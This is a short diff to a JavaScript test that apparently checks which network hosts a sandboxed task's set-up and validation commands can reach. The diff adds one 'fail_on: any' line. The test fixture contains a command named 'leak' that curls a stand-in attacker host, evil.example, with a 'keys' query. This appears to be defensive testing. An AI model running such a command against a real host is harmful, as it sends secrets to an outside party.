@@ -21,6 +21,7 @@ test("listed hosts are reached by set-up and commands, others are named in the c
       `environment: { setup: ['curl -sSf http://registry.example:${port}/package >package.txt', 'curl -s http://stats.example/ || true'], network: [${hosts.join(", ")}] }`,
       "agent: { max_attempts: 0 }",
       "validation:",
+      "  fail_on: any",
       "  commands:",
       "    - { name: install, run: 'cat package.txt' }",
       `    - { name: leak, run: 'curl -sSf http://evil.example:${port}/?keys || curl -sSf http://evil.example:${port}/?again' }`,
